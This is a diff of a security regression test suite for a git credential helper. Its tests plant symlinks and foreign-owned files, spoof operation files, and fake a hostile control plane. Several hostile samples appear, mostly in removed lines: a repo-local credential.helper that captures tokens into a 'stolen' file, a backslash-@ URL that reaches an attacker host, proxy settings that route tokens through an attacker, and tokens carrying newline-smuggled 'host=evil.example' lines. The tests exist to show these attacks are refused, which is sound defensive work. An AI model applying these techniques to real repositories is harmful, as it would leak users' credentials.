@@ -1,44 +1,28 @@
-// Red-team findings (2026-12-01): each case was an attack that worked on the code of that day
-// (the FINDING comment says how); each now passes and guards its fix. Real git against the
-// emulator, a recording attacker on loopback, planted local files.
+// Attacks on the credential helper by itself: hostile requests sent straight to it, planted
+// files in its cache and config directories (symlinks, FIFOs, files another user owns), a lying
+// or hostile control plane, erase. The first block each worked once (the FINDING comment says
+// how, red team of 2026-12-01) and now guards its fix; the second never worked. Each asserts that
+// no credential reached the attacker and nothing hung.
 import { execFileSync } from 'node:child_process';
-import { closeSync, constants, openSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { closeSync, constants, existsSync, mkdirSync, openSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { configuredHome, helperGet, mints } from '../../support/artifacts-home.js';
+import { helperAction, helperGet, mints } from '../../support/artifacts-home.js';
 import { startAttacker, type Attacker, startAttackWorld, type AttackWorld, tokensIn } from '../../support/attacker.js';
-import { startEmulator, type Emulator } from '../../support/emulator.js';
-import { credentialBundle, run, type GitHome } from '../../support/git-home.js';
+import type { Emulator } from '../../support/emulator.js';
+import { withConfiguredHome } from '../../support/fixtures.js';
+import { credentialBundle, makeGitHome, run, type GitHome } from '../../support/git-home.js';
 import { atLeast, gitsUnderTest, pathGit } from '../../support/gits.js';
 import { commitFile, settledLog } from '../remote/support.js';
+import { drainFifo, envelope, fakeApi, isRoot, nobody } from './support.js';
 
-const isRoot = process.getuid?.() === 0;
-/** Another local user: files "planted by someone else" are chowned to it (needs root). */
-const nobody = 65534;
-
-/**
- * Unblocks any process stuck opening a FIFO for writing (so a failed test leaves no hung
- * helper): a writer blocked in open(2) returns once a reader has opened, even if it has closed
- * again by the time the writer runs (Linux fifo_open waits for the reader count to change).
- */
-async function drainFifo(fifo: string): Promise<void> {
-  closeSync(openSync(fifo, constants.O_RDONLY | constants.O_NONBLOCK));
-}
-
-describe('red team: the credential helper on its own', () => {
+describe('the credential helper on its own: attacks fixed', () => {
   let emu: Emulator;
   let home: GitHome;
   let n = 0;
-  beforeAll(async () => {
-    emu = await startEmulator();
-    home = await configuredHome(pathGit(), emu);
-  });
-  afterAll(async () => {
-    await emu?.stop();
-    home?.cleanup();
-  });
+  withConfiguredHome(pathGit(), (w) => ({ emu, home } = w));
   const helperArgs = () => [credentialBundle, '--git-url', emu.url, '--api-url', emu.apiUrl, '--account', emu.account, 'get'];
   const request = (repo: string) => `protocol=http\nhost=${new URL(emu.url).host}\npath=git/default/${repo}.git\n`;
 
@@ -173,97 +157,130 @@ describe('red team: the credential helper on its own', () => {
   });
 });
 
-describe.each(gitsUnderTest())('red team: hostile URLs and repository config with $label', (git) => {
+describe('the credential helper and planted local files: attacks held', () => {
   let emu: Emulator;
-  let attacker: Attacker;
   let home: GitHome;
   let n = 0;
-  const ok = async (args: string[], cwd?: string) => {
-    const r = await home.git(args, { cwd: cwd && path.join(home.dir, cwd) });
-    expect(r.code, `git ${args.join(' ')}\n${r.stderr}`).toBe(0);
-    return r;
-  };
-  /** Anything the attacker saw that carried a repo token (Authorization or Proxy-Authorization). */
-  const tokensSeen = () => tokensIn(attacker.seen);
+  withConfiguredHome(pathGit(), (w) => ({ emu, home } = w));
+  const request = (repo: string, host = new URL(emu.url).host) => `protocol=http\nhost=${host}\npath=git/default/${repo}.git\n`;
+  const cacheDir = () => path.join(home.env.XDG_RUNTIME_DIR!, 'git-credential-artifacts');
 
-  let world: AttackWorld | undefined;
-  beforeAll(async () => {
-    world = await startAttackWorld(git);
-    ({ emu, attacker, home } = world);
-  });
-  afterAll(() => world?.stop());
-
-  // FINDING (low): git-remote-artifacts checks the origin of `new URL(raw)` (WHATWG), which
-  // reads `\` as `/` in http(s) URLs, but hands the raw string to git, whose parser (like
-  // curl's) takes everything before the first `@` as user:password. So
-  // artifacts::http://<registered host:port>\@<attacker>/… passes as the registered origin
-  // (trace: `origin=<registered> policy=configured`) and git talks to the attacker. No token
-  // goes there (git uses the URL's own user:password and asks no helper), but the documented
-  // rule "anything else fails before any HTTP request" is broken, and a push sends the
-  // attacker the user's commits under a name that looks registered. The Cloudflare form
-  // (https://<32 hex>.artifacts.cloudflare.net\@evil/…) passes the same way, as `inject`.
-  it('artifacts::<registered origin>\\@<attacker>/…: refused before any request', async () => {
-    attacker.seen.length = 0;
-    const url = `artifacts::${emu.url}\\@${attacker.url.slice('http://'.length)}/git/default/victim.git`;
-    const r = await home.git(['ls-remote', url]);
-    expect(r.code).not.toBe(0);
-    expect(attacker.seen).toEqual([]);
-    expect(r.stderr).toMatch(/git-remote-artifacts: (refusing to send Artifacts credentials|remote URL)/);
+  // The cache directory replaced by a symlink to a directory another user controls: refused at
+  // once (quit=1, so git fails fast), nothing written into the other directory.
+  it('a token cache dir that is a symlink to another user\'s directory: refused at once, nothing written there', async () => {
+    await emu.createRepo('default', `symdir-${++n}`);
+    const other = path.join(home.dir, `other-${n}`);
+    mkdirSync(other, { mode: 0o777 });
+    if (isRoot) execFileSync('chown', [String(nobody), other]);
+    const dir = path.join(home.dir, `run-sym-${n}`);
+    mkdirSync(dir, { mode: 0o700 });
+    symlinkSync(other, path.join(dir, 'git-credential-artifacts'));
+    const r = await helperGet(home, emu, request(`symdir-${n}`), { XDG_RUNTIME_DIR: dir });
+    expect(r.stdout).toBe('quit=1\n');
+    expect(r.stderr).toMatch(/is unsafe: not a plain directory/);
+    expect(readdirSync(other)).toEqual([]);
   });
 
-  // FINDING (low; repo-local config): configure's chain for a registered origin is the reset
-  // plus our helper in the global file, and a repository's own credential.helper lines are
-  // read later and still added. git sends `store` with the credential to every helper after a
-  // success, so a repo-local helper receives our tokens: for fetches that cannot be helped
-  // (git's own transport), but pushes go through git-remote-artifacts, which could put the
-  // reset and our helper in its child's GIT_CONFIG_COUNT pairs (command scope, read after the
-  // repository's config) for configured origins too, as it already does for injected ones.
-  it("a repository's own credential.helper never receives the write token of a routed push", async () => {
-    const dir = `store-${++n}`;
-    await ok(['init', '-q', dir]);
-    await commitFile(home, dir, 'f.txt', 'f');
-    const stolen = path.join(home.dir, `stolen-${n}.txt`);
-    writeFileSync(stolen, '');
-    await ok(['config', 'credential.helper', `!f() { cat >> '${stolen}'; }; f`], dir);
+  // XDG_RUNTIME_DIR itself made by another user, with our cache dir pre-created in it.
+  it.skipIf(!isRoot)('an XDG_RUNTIME_DIR whose cache dir another user made: refused at once, nothing written there', async () => {
+    await emu.createRepo('default', `xdg-${++n}`);
+    const runtime = path.join(home.dir, `xdg-${n}`);
+    mkdirSync(path.join(runtime, 'git-credential-artifacts'), { recursive: true, mode: 0o777 });
+    execFileSync('chown', ['-R', String(nobody), runtime]);
+    const r = await helperGet(home, emu, request(`xdg-${n}`), { XDG_RUNTIME_DIR: runtime });
+    expect(r.stdout).toBe('quit=1\n');
+    expect(r.stderr).toMatch(/owned by another user/);
+    expect(readdirSync(path.join(runtime, 'git-credential-artifacts'))).toEqual([]);
+  });
+
+  // An operation file that says `write` but is another user's, or a symlink to one of ours:
+  // never raises the scope.
+  const spoiled: Array<[string, (f: string) => void]> = [
+    ['world-readable', (f) => void execFileSync('chmod', ['644', f])],
+    ...(isRoot ? [['owned by another user', (f: string) => void execFileSync('chown', [String(nobody), f])] as [string, (f: string) => void]] : []),
+  ];
+  it.each(spoiled)('an ARTIFACTS_OPERATION_FILE saying write but %s: read scope', async (_name, spoil) => {
+    await emu.createRepo('default', `op-${++n}`);
+    const file = path.join(home.dir, `op-${n}`);
+    writeFileSync(file, 'write\n', { mode: 0o600 });
+    spoil(file);
     await emu.clearLog();
-    await ok(['push', '-q', `${emu.url}/git/default/victim.git`, `HEAD:refs/heads/store-${n}`], dir);
-    expect(mints(await settledLog(emu), 'write').length).toBe(1); // the push did get a write token
-    expect(readFileSync(stolen, 'utf8')).not.toMatch(/password=art_v/);
+    const r = await helperGet(home, emu, request(`op-${n}`), { ARTIFACTS_OPERATION_FILE: file, ARTIFACTS_TRACE: '1' });
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stderr).toMatch(/source="default \(operation file not private\)"/);
+    expect(mints(await settledLog(emu)).map((m) => m.scope)).toEqual(['read']);
   });
 
-  // FINDING (low; repo-local config), git >= 2.46 only: configure writes
-  // http.<url>.proactiveAuth=basic, so git sends the token with its very first request,
-  // before any challenge. Through a repository's http.proxy that means even a proxy that
-  // only ever answers 407 (never forwards anything) reads the Authorization header. On git
-  // 2.39 the same proxy gets nothing, because git waits for the origin's 401.
-  // FINDING (low; repo-local config): http.proxy in a repository's own config (or
-  // http.<url>.proxy, or http.curloptResolve, plus http.sslVerify=false for https) routes the
-  // requests that carry our Basic token through an attacker. The remote helper reads only
-  // trusted scopes for artifacts.*, but not for the http.* settings that decide where the
-  // token physically goes. Fixable on the push path (refuse or override these when they come
-  // from local/worktree/command scope); for git's own fetches only by documenting it.
-  // Fixed on every path through git-remote-artifacts (pushes, artifacts:// and artifacts::):
-  // such settings from local or worktree scope are refused before any request. git's own
-  // fetch transport is git's behaviour and documented (a writable .git/config can already run
-  // code, e.g. core.fsmonitor).
+  it('an ARTIFACTS_OPERATION_FILE that is a symlink to a private file saying write: read scope', async () => {
+    await emu.createRepo('default', `oplink-${++n}`);
+    const real = path.join(home.dir, `op-real-${n}`);
+    writeFileSync(real, 'write\n', { mode: 0o600 });
+    const link = path.join(home.dir, `op-link-${n}`);
+    symlinkSync(real, link);
+    await emu.clearLog();
+    const r = await helperGet(home, emu, request(`oplink-${n}`), { ARTIFACTS_OPERATION_FILE: link, ARTIFACTS_TRACE: '1' });
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stderr).toMatch(/source="default \(operation file unreadable\)"/);
+    expect(mints(await settledLog(emu)).map((m) => m.scope)).toEqual(['read']);
+  });
+
+  // erase drops only the entry whose secret git names, and only for the origin git names.
+  it('erase with a wrong secret, or for another origin naming the same repo, deletes nothing', async () => {
+    await emu.createRepo('default', `erase-${++n}`);
+    const got = await helperGet(home, emu, request(`erase-${n}`));
+    const secret = /^password=(.*)$/m.exec(got.stdout)?.[1];
+    expect(secret).toMatch(/^art_v1_/);
+    const before = readdirSync(cacheDir()).filter((f) => f.endsWith('.json')).sort();
+    const wrong = await helperAction(home, emu, 'erase', `${request(`erase-${n}`)}username=x\npassword=art_v1_${'0'.repeat(40)}\n`);
+    expect(wrong.code, wrong.stderr).toBe(0);
+    const otherOrigin = await home.run(
+      process.execPath,
+      [credentialBundle, '--git-url', emu.url.replace('127.0.0.1', 'localhost'), '--api-url', emu.apiUrl, '--account', emu.account, 'erase'],
+      { input: `${request(`erase-${n}`, new URL(emu.url.replace('127.0.0.1', 'localhost')).host)}username=x\npassword=${secret}\n` },
+    );
+    expect(otherOrigin.code, otherOrigin.stderr).toBe(0);
+    expect(readdirSync(cacheDir()).filter((f) => f.endsWith('.json')).sort()).toEqual(before);
+    await emu.clearLog();
+    const again = await helperGet(home, emu, request(`erase-${n}`));
+    expect(again.stdout).toContain(`password=${secret}\n`);
+    expect(mints(await settledLog(emu))).toEqual([]);
+  });
+
+  // Input far above what git sends: refused quickly, no crash, nothing answered.
   it.each([
-    ['http.proxy', () => attacker.url],
-    [`http.<origin>.proxy`, () => attacker.url],
-    ['remote.origin.proxy', () => attacker.url],
-    ['http.curloptResolve', () => `${new URL(emu.url).hostname}:${new URL(emu.url).port}:127.0.0.2`],
-  ])("a repository's own %s: a routed push is refused before any request", async (key, value) => {
-    const dir = `proxy-${++n}`;
-    await ok(['init', '-q', dir]);
-    await commitFile(home, dir, 'f.txt', 'f');
-    await ok(['remote', 'add', 'origin', `${emu.url}/git/default/victim.git`], dir);
-    await ok(['config', key.replace('<origin>', emu.url), value()], dir);
-    attacker.seen.length = 0;
-    await emu.clearLog();
-    const r = await home.git(['push', '-q', 'origin', `HEAD:refs/heads/proxy-${n}`], { cwd: path.join(home.dir, dir) });
-    expect(r.code).not.toBe(0);
-    expect(r.stderr).toMatch(/refusing to send Artifacts credentials: this repository's own config sets \S+ \(local scope\)/);
-    expect(attacker.seen).toEqual([]);
-    expect(tokensSeen()).toEqual([]);
-    expect(mints(await settledLog(emu)).filter((m) => m.scope === 'write')).toEqual([]);
+    ['2 MiB of input', () => `${request('big')}x=${'a'.repeat(2 << 20)}\n`, false],
+    ['a 70 000-byte path', () => `protocol=http\nhost=${new URL(emu.url).host}\npath=git/default/${'a'.repeat(70_000)}.git\n`, false],
+    ['40 000 capability[] lines', () => `${request('big')}${'capability[]=authtype\n'.repeat(40_000)}`, true],
+  ])('%s: handled quickly, never a crash', async (_name, input, answers) => {
+    await emu.createRepo('default', 'big').catch(() => undefined);
+    const r = await helperGet(home, emu, input());
+    expect(r.stderr).not.toMatch(/unexpected error/);
+    if (answers) expect(r.stdout).toMatch(/^password=art_v1_/m);
+    else expect(r.stdout).not.toMatch(/password=/);
+  });
+
+  // A lying control plane: a token with a line break (would add protocol lines of its own),
+  // a token of the wrong scope. Neither reaches git.
+  it.each([
+    ['a plaintext with a newline and a host= line', { plaintext: `art_v1_${'a'.repeat(40)}\nhost=evil.example`, scope: 'read', id: 'x' }],
+    ['a plaintext with a CR', { plaintext: `art_v1_${'a'.repeat(40)}\rhost=evil.example`, scope: 'read', id: 'x' }],
+    ['a write token for a read request', { plaintext: `art_v1_${'a'.repeat(40)}?expires=${Math.floor(Date.now() / 1000) + 3600}`, scope: 'write', id: 'x' }],
+    ['an id with a newline', { plaintext: `art_v1_${'a'.repeat(40)}?expires=${Math.floor(Date.now() / 1000) + 3600}`, scope: 'read', id: 'x\npassword=y' }],
+  ])('a mint answer with %s is refused', async (_name, result) => {
+    const api = await fakeApi((_req, res) => {
+      res.writeHead(201, { 'Content-Type': 'application/json' });
+      res.end(envelope(result));
+    });
+    try {
+      const r = await home.run(
+        process.execPath,
+        [credentialBundle, '--git-url', api.url, '--api-url', `${api.url}/client/v4`, '--account', 'a', 'get'],
+        { input: `protocol=http\nhost=${new URL(api.url).host}\npath=git/default/lie.git\n`, env: { ARTIFACTS_CACHE_DIR: path.join(home.dir, `lie-cache-${++n}`) } },
+      );
+      expect(r.stdout).toBe('quit=1\n');
+      expect(r.stderr).toMatch(/control characters|returned a write token/);
+    } finally {
+      api.stop();
+    }
   });
 });
